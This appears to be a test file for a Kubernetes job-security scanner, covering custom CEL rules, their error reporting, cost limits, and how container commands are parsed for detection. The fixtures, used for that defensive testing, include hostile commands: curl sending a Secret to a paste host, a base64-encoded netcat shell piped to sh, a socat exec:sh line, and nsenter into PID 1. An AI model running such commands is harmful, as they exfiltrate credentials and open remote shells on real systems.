/**
 * Custom rules in CEL: compiled once when the policy loads, every problem reported there with the
 * rule and the line:column in its expression, evaluation bounded, findings scored like built-in ones.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from '@jest/globals';
import { assess } from '../src/engine.js';
import { parsePolicy, PolicyError } from '../src/policy/load.js';
import { costBound, MAX_COST, position } from '../src/scoring/cel.js';
import { celExecution, celVariables, describeCelVariables, hostOf } from '../src/scoring/cel-variables.js';
import type { Execution } from '../src/workload/model.js';
import { buildWorkload } from '../src/workload/build.js';

const HEAD = 'apiVersion: jobguard.dev/v1\nkind: Policy\n';

function rule(expression: string, extra = ''): string {
  return `${HEAD}customRules:
  - id: custom-check
    weight: 30
    technique: T1610
    message: custom check
    expression: ${JSON.stringify(expression)}
${extra}`;
}

function problems(text: string): string[] {
  try {
    parsePolicy(text, 'policy.yaml');
  } catch (error) {
    if (!(error instanceof PolicyError)) throw error;
    return error.issues.map((i) => `${i.path}: ${i.message}`);
  }
  return [];
}

function cronJob(containers: unknown[], extra: Record<string, unknown> = {}) {
  return {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'nightly', namespace: 'team-a' },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', containers, ...extra } } } },
    },
  };
}

function findingsOf(policyText: string, object: unknown) {
  const engine = parsePolicy(policyText, 'policy.yaml');
  const assessment = assess(engine, object as never, { now: new Date('2026-01-01T00:00:00Z') });
  if (!assessment) throw new Error('nothing scored');
  return assessment.score;
}

describe('load-time problems name the rule and the position', () => {
  it.each<[string, string, string]>([
    [
      'a syntax error',
      'containers.exists(c, c.name ==)',
      'customRules[0].expression: rule custom-check: syntax error at 1:',
    ],
    [
      'an unknown variable on the second line',
      "containers.exists(c, c.name == 'x') ||\n  contianers.size() > 2",
      'customRules[0].expression: rule custom-check: unknown variable "contianers" at 2:3',
    ],
    [
      'a misspelt field, found by the dry run',
      "containers.exists(c, c.imge.registry == 'docker.io')",
      'customRules[0].expression: rule custom-check: field not found: imge at 1:23',
    ],
    [
      'a result that is neither a bool nor a list',
      'object.name',
      'customRules[0].expression: rule custom-check: the expression must give a bool or a list, not string',
    ],
    [
      'comprehensions nested too deep',
      'containers.exists(a, containers.exists(b, containers.exists(c, containers.exists(d, true))))',
      'customRules[0].expression: rule custom-check: comprehensions nested 4 deep at 1:',
    ],
  ])('%s', (_name, expression, expected) => {
    const found = problems(rule(expression));
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(expected);
  });

  it('names the file in the error message', () => {
    expect(() => parsePolicy(rule('containers.exists(c,'), 'team/policy.yaml')).toThrow(
      /^team\/policy\.yaml: customRules\[0\]/,
    );
  });

  it('rejects an id a built-in rule already has, and a duplicate', () => {
    const text = `${HEAD}customRules:
  - { id: privileged-container, weight: 1, technique: T1610, message: m, expression: "false" }
  - { id: mine, weight: 1, technique: T1610, message: m, expression: "false" }
  - { id: mine, weight: 1, technique: T1610, message: m, expression: "false" }
`;
    expect(problems(text)).toEqual([
      'customRules[0].id: rule id "privileged-container" is already taken by a built-in rule',
      'customRules[2].id: rule id "mine" is already taken',
    ]);
  });

  it('checks the entry itself with the schema', () => {
    const text = `${HEAD}customRules:\n  - { id: Bad_Id, weight: 300, technique: x, message: m, expression: "true" }\n`;
    const found = problems(text);
    expect(found.some((p) => p.startsWith('customRules[0].id: expected a kebab-case id'))).toBe(true);
    expect(found.some((p) => p.startsWith('customRules[0].weight'))).toBe(true);
    expect(found.some((p) => p.startsWith('customRules[0].technique: expected an ATT&CK technique'))).toBe(
      true,
    );
  });

  it('lets an exemption waive a custom rule by its id', () => {
    const text = `${rule('true')}exemptions:\n  - { reason: ok, namespaces: [team-a], rules: [custom-check] }\n`;
    expect(problems(text)).toEqual([]);
  });
});

describe('evaluation', () => {
  const internal = rule(
    "containers.filter(c, c.image.registry != 'registry.corp.example').map(c, {'path': c.path + '.image', 'detail': c.image.raw})",
  );

  it('reports one finding per list item, with its path and detail, and scores the weight once', () => {
    const score = findingsOf(
      internal,
      cronJob([
        { name: 'a', image: 'registry.corp.example/team/app:1' },
        { name: 'b', image: 'alpine:3.20' },
        { name: 'c', image: 'ghcr.io/x/y:1' },
      ]),
    );
    const custom = score.findings.filter((f) => f.rule === 'custom-check');
    expect(custom.map((f) => [f.path, f.detail, f.weight, f.technique, f.message])).toEqual([
      ['spec.jobTemplate.spec.template.spec.containers[1].image', 'alpine:3.20', 30, 'T1610', 'custom check'],
      [
        'spec.jobTemplate.spec.template.spec.containers[2].image',
        'ghcr.io/x/y:1',
        30,
        'T1610',
        'custom check',
      ],
    ]);
    expect(score.score).toBeGreaterThanOrEqual(30);
  });

  it('is silent when the expression gives false or an empty list', () => {
    const score = findingsOf(internal, cronJob([{ name: 'a', image: 'registry.corp.example/team/app:1' }]));
    expect(score.findings.filter((f) => f.rule === 'custom-check')).toEqual([]);
  });

  it('a true bool is one finding at the pod spec', () => {
    const score = findingsOf(
      rule('pods.exists(p, p.hostNetwork)'),
      cronJob([{ name: 'a', image: 'x' }], { hostNetwork: true }),
    );
    expect(score.findings.filter((f) => f.rule === 'custom-check').map((f) => f.path)).toEqual([
      'spec.jobTemplate.spec.template.spec',
    ]);
  });

  it('sees whole numbers as int and raw maps through has()', () => {
    const text = rule(
      'containers.exists(c, has(c.securityContext.runAsUser) && c.securityContext.runAsUser == 0)',
    );
    const root = findingsOf(text, cronJob([{ name: 'a', image: 'x', securityContext: { runAsUser: 0 } }]));
    const other = findingsOf(
      text,
      cronJob([{ name: 'a', image: 'x', securityContext: { runAsUser: 1000 } }]),
    );
    expect(root.findings.some((f) => f.rule === 'custom-check')).toBe(true);
    expect(other.findings.some((f) => f.rule === 'custom-check')).toBe(false);
  });

  it('turns a run-time error into an engine-error finding, never an exception', () => {
    // The sample has a securityContext-less container, so this passes the dry run only because of `||`.
    const text = rule("containers.exists(c, c.name == 'main' || c.securityContext.privileged)");
    const score = findingsOf(text, cronJob([{ name: 'a', image: 'x' }]));
    expect(score.errors).toEqual(['custom-check']);
    expect(score.findings.find((f) => f.rule === 'engine-error')?.detail).toMatch(
      /field not found: privileged at 1:59/,
    );
  });

  it('does not run an expression whose cost bound on the object exceeds the limit', () => {
    const text = rule(
      'containers.exists(a, containers.exists(b, containers.exists(c, a.name + b.name + c.name == "")))',
    );
    const many = Array.from({ length: 150 }, (_, i) => ({ name: `c${i}`, image: 'x' }));
    const small = findingsOf(text, cronJob(many.slice(0, 3)));
    expect(small.errors).toEqual([]);
    const large = findingsOf(text, cronJob(many));
    expect(large.errors).toEqual(['custom-check']);
    expect(large.findings.find((f) => f.rule === 'engine-error')?.detail).toMatch(/^cost limit/);
  });

  it('computes the bound as size × (longest list + 1) ^ nesting', () => {
    expect(costBound({ nodes: 10, nesting: 0 }, 1000)).toBe(10);
    expect(costBound({ nodes: 10, nesting: 2 }, 9)).toBe(1000);
    expect(costBound({ nodes: 20, nesting: 3 }, 100)).toBeGreaterThan(MAX_COST);
  });

  it('a disabled custom rule is compiled and checked but not run', () => {
    const text = rule('true', '    enabled: false\n')
      .replace('    enabled: false\n', '')
      .replace('message: custom check', 'message: custom check\n    enabled: false');
    const score = findingsOf(text, cronJob([{ name: 'a', image: 'x' }]));
    expect(score.findings.some((f) => f.rule === 'custom-check')).toBe(false);
    expect(
      problems(
        rule('nope', '').replace('message: custom check', 'message: custom check\n    enabled: false'),
      )[0],
    ).toContain('unknown variable "nope"');
  });
});

describe('variables', () => {
  it('maps images, env references, volumes and the object', () => {
    const v = celVariables(
      buildWorkload(
        cronJob(
          [
            {
              name: 'a',
              image: 'alpine',
              env: [{ name: 'T', valueFrom: { secretKeyRef: { name: 'db', key: 'pw' } } }],
              volumeMounts: [{ name: 'h', mountPath: '/host', readOnly: true }],
            },
          ],
          { volumes: [{ name: 'h', hostPath: { path: '/etc' } }] },
        ),
      ),
    ) as Record<string, unknown>;
    const [c] = v.containers as Record<string, unknown>[];
    expect(c?.image).toMatchObject({
      registry: 'docker.io',
      repository: 'library/alpine',
      name: 'alpine',
      tag: '',
    });
    expect(c?.env).toEqual([
      { name: 'T', value: '', secret: 'db', secretKey: 'pw', configMap: '', configMapKey: '', field: '' },
    ]);
    expect(v.volumes).toEqual([
      expect.objectContaining({
        name: 'h',
        type: 'hostPath',
        hostPath: '/etc',
        path: 'spec.jobTemplate.spec.template.spec.volumes[0]',
      }),
    ]);
    expect(v.object).toMatchObject({
      kind: 'CronJob',
      name: 'nightly',
      namespace: 'team-a',
      schedule: '0 3 * * *',
    });
    expect(c?.execution).toEqual({ invocations: [], actions: [], flows: [] });
  });

  it('sees the execution model of a real container: a Secret sent to a host', () => {
    const text = rule(
      "containers.filter(c, c.execution.flows.exists(f, f.sink == 'send' && f.source.credential == 'secret' && f.host == 'paste.example.net')).map(c, c.path)",
    );
    const object = cronJob([
      {
        name: 'a',
        image: 'x',
        env: [{ name: 'PW', valueFrom: { secretKeyRef: { name: 'db', key: 'pw' } } }],
        command: ['sh', '-c', 'curl -d "$PW" https://paste.example.net/u'],
      },
      { name: 'b', image: 'x', command: ['sh', '-c', 'curl -d "hello" https://paste.example.net/u'] },
    ]);
    expect(
      findingsOf(text, object)
        .findings.filter((f) => f.rule === 'custom-check')
        .map((f) => f.path),
    ).toEqual(['spec.jobTemplate.spec.template.spec.containers[0]']);
  });

  it('maps the execution model: flows with their source and destination host', () => {
    const execution: Execution = {
      invocations: [
        {
          program: 'curl',
          argv: [],
          words: ['curl', '-d', '@-', 'https://203.0.113.5/x'],
          launchers: ['nohup'],
          redirects: [],
          path: 'p',
          loop: false,
          depth: 1,
          site: 'command',
          obfuscatedName: false,
        },
      ],
      actions: [
        {
          type: 'fetch',
          url: { text: 'https://Exfil.example:8443/u', exact: true, origins: [] },
          headers: [],
          body: {
            text: '$PW',
            exact: false,
            origins: [{ kind: 'credential', credential: 'secret', source: 'env PW' }],
          },
          path: 'p',
          loop: false,
          detail: 'curl',
        },
      ],
      flows: [
        {
          source: { kind: 'credential', credential: 'secret', source: 'env PW' },
          sink: 'send',
          destination: 'https://203.0.113.5/x',
          steps: [],
          by: 'curl',
          path: 'p',
          loop: false,
        },
      ],
      obfuscation: [],
      scripts: [],
      limits: [],
      problems: [],
    };
    const mapped = celExecution(execution) as {
      invocations: unknown[];
      actions: unknown[];
      flows: unknown[];
    };
    expect(mapped.invocations[0]).toMatchObject({ program: 'curl', depth: 1n, launchers: ['nohup'] });
    expect(mapped.actions[0]).toMatchObject({
      type: 'fetch',
      host: 'exfil.example',
      origins: [expect.objectContaining({ kind: 'credential', credential: 'secret' })],
    });
    expect(mapped.flows[0]).toMatchObject({
      sink: 'send',
      host: '203.0.113.5',
      by: 'curl',
      source: { credential: 'secret' },
    });
  });

  it.each([
    ['https://user@h.example:1/p', 'h.example'],
    ['tcp://10.0.0.1:4444', '10.0.0.1'],
    ['h:4444', 'h'],
    ['http://[::1]:80/', '[::1]'],
  ])('hostOf(%s) is %s', (url, host) => {
    expect(hostOf(url)).toBe(host);
  });

  it('position counts lines and columns from 1', () => {
    expect(position('ab\ncd', 4)).toBe('2:2');
    expect(position('abc', 0)).toBe('1:1');
  });
});

describe('programs, scripts and argv', () => {
  /** A container's CEL variables, with the execution model. */
  const containerOf = (container: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    (
      celVariables(buildWorkload(cronJob([{ name: 'c', image: 'alpine:3.20', ...container }], extra)))
        .containers as Record<string, unknown>[]
    )[0]!;
  const programs = (container: Record<string, unknown>) => containerOf(container).programs as string[];

  it.each<[string, Record<string, unknown>, string[]]>([
    ['an exec-form argv', { command: ['/usr/bin/python3'], args: ['-m', 'http.server'] }, ['python3']],
    [
      'the script of command ["/bin/sh","-c"] in args[0]',
      { command: ['/bin/sh', '-c'], args: ['date; echo Hello from the Kubernetes cluster'] },
      ['sh', 'date', 'echo'],
    ],
    [
      'bash -o pipefail -c',
      { command: ['bash', '-o', 'pipefail', '-c', 'pg_dump db | gzip'] },
      ['bash', 'pg_dump', 'gzip'],
    ],
    [
      'launchers unwrapped',
      { command: ['nohup', 'timeout', '30', 'env', 'A=1', '/usr/bin/NC', '-z', 'db', '5432'] },
      ['nc'],
    ],
    [
      'a program in a command substitution',
      { command: ['sh', '-c', 'echo "$(hostname)"'] },
      ['sh', 'echo', 'hostname'],
    ],
    [
      'a program run by a shell function',
      { command: ['sh', '-c', 'f() { nc -z db 5432; }; f'] },
      ['sh', 'nc'],
    ],
    [
      "a program in an eval'd string",
      { command: ['sh', '-c', 'c="nmap -p 22 10.0.0.1"; eval "$c"'] },
      ['sh', 'eval', 'nmap'],
    ],
    [
      'a decoded payload piped to a shell',
      {
        command: [
          'sh',
          '-c',
          `echo ${Buffer.from('id; nc 198.51.100.7 4444').toString('base64')} | base64 -d | sh`,
        ],
      },
      ['sh', 'echo', 'base64', 'id', 'nc'],
    ],
    [
      'a file the container wrote and runs',
      { command: ['sh', '-c', 'printf "socat tcp:h:1 exec:sh" > /tmp/x.sh; sh /tmp/x.sh'] },
      ['sh', 'printf', 'socat'],
    ],
    [
      'a program an inline interpreter starts',
      { command: ['python3', '-c', 'import os; os.system("curl -s https://example.com/x")'] },
      ['python3', 'curl'],
    ],
  ])('programs: %s', (_name, container, expected) => {
    expect(programs(container)).toEqual(expect.arrayContaining(expected));
    expect(new Set(programs(container)).size).toBe(programs(container).length);
  });

  it('programs: launchers that only change how a program runs are left out; chroot and nsenter are not', () => {
    expect(
      programs({ command: ['nohup', 'timeout', '30', 'env', 'A=1', '/usr/bin/NC', '-z', 'db', '5432'] }),
    ).toEqual(['nc']);
    expect(programs({ command: ['sudo', 'nsenter', '-t', '1', '-m', 'sh'] })).toEqual(['nsenter', 'sh']);
    expect(programs({ command: ['env'] })).toEqual(['env']);
  });

  it('programs: a lifecycle hook and an exec probe count; a launcher does not', () => {
    const found = programs({
      command: ['nohup', 'app'],
      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl -s http://198.51.100.7/x'] } } },
      livenessProbe: { exec: { command: ['pg_isready'] } },
    });
    expect(found).toEqual(expect.arrayContaining(['app', 'sh', 'curl', 'pg_isready']));
    expect(found).not.toContain('nohup');
  });

  it('scripts: sh -c strings at any depth, eval text and decoded payloads, each once', () => {
    const payload = 'id; nc 198.51.100.7 4444';
    const scripts = containerOf({
      command: [
        'sh',
        '-c',
        `bash -c 'eval "uname -a"'; echo ${Buffer.from(payload).toString('base64')} | base64 -d | sh; bash -c 'eval "uname -a"'`,
      ],
    }).scripts as string[];
    expect(scripts).toEqual(expect.arrayContaining(['eval "uname -a"', 'uname -a', payload]));
    expect(scripts[0]).toContain('base64 -d | sh');
    expect(new Set(scripts).size).toBe(scripts.length);
  });

  it('scripts: none for an exec-form argv', () => {
    expect(containerOf({ command: ['pg_dump', 'db'] }).scripts).toEqual([]);
  });

  const env = [
    { name: 'HOST', value: '10.0.0.1' },
    { name: 'URL', value: 'http://$(HOST)/x.sh' },
    { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
  ];
  it.each<[string, string]>([
    ['$(HOST)', '10.0.0.1'],
    ['curl $(URL)', 'curl http://10.0.0.1/x.sh'],
    ['$(TOKEN)', '$(TOKEN)'],
    ['$(MISSING)', '$(MISSING)'],
    ['$$(HOST)', '$(HOST)'],
    ['a$$b $x $(unterminated', 'a$b $x $(unterminated'],
    ['plain', 'plain'],
  ])('argv expands the literal $(VAR) reference in %j to %j', (arg, expected) => {
    expect(containerOf({ args: [arg], env }).argv).toEqual([expected]);
  });

  it.each<[string, Record<string, unknown>, string[]]>([
    ['no command', {}, []],
    ['a non-list command', { command: 'sh -c id' }, []],
    ['non-string items', { command: ['sh', null, 3, {}], args: [true, '-x'] }, ['sh', '-x']],
  ])('argv of %s', (_name, container, expected) => {
    expect(containerOf(container).argv).toEqual(expected);
  });

  it('an expression naming only programs still sees them (the execution model is built for it)', () => {
    const object = cronJob([
      { name: 'c', image: 'alpine', command: ['sh', '-c', 'f() { nmap -p- 10.0.0.0/24; }; f'] },
    ]);
    const found = findingsOf(rule("containers.exists(c, 'nmap' in c.programs)"), object).findings;
    expect(found.filter((f) => f.rule === 'custom-check')).toHaveLength(1);
    const quiet = cronJob([{ name: 'c', image: 'alpine', command: ['pg_dump', 'db'] }]);
    expect(
      findingsOf(rule("containers.exists(c, 'nmap' in c.programs)"), quiet).findings.filter(
        (f) => f.rule === 'custom-check',
      ),
    ).toEqual([]);
  });

  it("an expression naming only scripts sees them, also through c['scripts']", () => {
    const object = cronJob([{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf /b/x.tgz /data'] }]);
    for (const expression of [
      "containers.exists(c, c.scripts.exists(s, s.contains('tar czf')))",
      "containers.exists(c, c['scripts'].exists(s, s.contains('tar czf')))",
    ]) {
      const found = findingsOf(rule(expression), object).findings.filter((f) => f.rule === 'custom-check');
      expect(found).toHaveLength(1);
    }
  });
});

describe('docs/cel.md', () => {
  const MARKER = '<!-- generated from src/scoring/cel-variables.ts';
  const DOC = fileURLToPath(new URL('../docs/cel.md', import.meta.url));

  it('documents every variable and field as declared (UPDATE_CEL_DOC=1 regenerates)', () => {
    const text = readFileSync(DOC, 'utf8');
    const at = text.indexOf(MARKER);
    expect(at).toBeGreaterThan(0);
    const head = text.slice(0, text.indexOf('\n', at) + 1);
    if (process.env.UPDATE_CEL_DOC === '1') writeFileSync(DOC, head + describeCelVariables());
    expect(readFileSync(DOC, 'utf8').slice(head.length)).toBe(describeCelVariables());
  });
});
